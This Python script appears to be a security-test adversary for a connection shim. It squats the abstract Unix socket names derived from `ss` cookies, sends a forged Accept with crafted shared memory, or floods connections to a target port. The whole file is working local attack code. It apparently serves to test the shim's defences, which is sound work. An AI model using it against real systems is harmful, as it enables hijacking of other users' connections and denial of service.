"""Another user, who means ill of a connection to PORT: `stranger.py squat|offer|fill PORT`.

Names, cookies and messages are as shim/smc/src/clc.rs has them; `ss` shows the cookies to everybody."""

import os
import re
import socket
import struct
import subprocess
import sys

what, port = sys.argv[1], int(sys.argv[2])
EYECATCHER = bytes.fromhex("e2d4c3c4")
# Where the connections begin in a group (shim/uapi/src/group.rs).
CONNS = 4096 + 2 * (1024 * (64 + 128) + 4096)


def ends():
    """(client's address, server's address) to cookie, of every connection there."""
    table = subprocess.run(["ss", "-tenH", "state", "established"], capture_output=True, text=True, check=True).stdout
    found = {}
    for line in table.splitlines():
        match = re.match(r"\s*\d+\s+\d+\s+([\d.]+):(\d+)\s+([\d.]+):(\d+).*sk:([0-9a-f]+)", line)
        if match:
            host, own, other, theirs, cookie = match.groups()
            found[(host, int(own)), (other, int(theirs))] = int(cookie, 16)
    return found


def name(active, passive, cookie):
    def address(end):
        return (b"\0" * 10 + b"\xff\xff" + socket.inet_aton(end[0])).hex() + "." + f"{end[1]:04x}"

    return f"\0preloop/clc/{address(active)}-{address(passive)}-{cookie:016x}".encode()


def accept(cookie, total, ring):
    body = struct.pack(">QBBHQIIQQQ", cookie, 1, 1, 40, 0x1234, 0, 1, ring, ring, total)
    return EYECATCHER + struct.pack(">BHB", 2, 12 + len(body), 3 << 4 | 8) + body + EYECATCHER


def offer(box, cookie):
    """A flawless Accept with memory, but not from who has the other end."""
    ring, total = 1 << 18, CONNS + 512 * 512 + 512 * 2 * (1 << 18)
    memory = os.memfd_create("preloop-group", os.MFD_ALLOW_SEALING)
    os.ftruncate(memory, total)
    header = EYECATCHER + b"\0\0\0\2"
    os.pwrite(memory, struct.pack("<QQQQ", int.from_bytes(header), total, ring, ring), 0)
    # The block that the Accept names says ACCEPTED, of its first use.
    os.pwrite(memory, struct.pack("<II", 1 << 2 | 1, 1), CONNS + 2 * 192)
    import fcntl

    fcntl.fcntl(memory, 1033, 2 | 4 | 1)
    socket.send_fds(box, [accept(cookie, total, ring)], [memory])


found = ends()
clients = [key for key in found if key[1][1] == port]
kept = []
for key in clients:
    active, passive = key
    own = name(active, passive, found[key])
    if what == "squat":
        box = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        box.bind(own)
        box.listen(4)
        kept.append(box)
        continue
    for _ in range(1 if what == "offer" else 10):
        box = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        box.setblocking(False)
        try:
            box.connect(own)
        except BlockingIOError:
            break
        if what == "offer":
            offer(box, found[passive, active])
        kept.append(box)
print("ready", len(kept), flush=True)
sys.stdin.read()
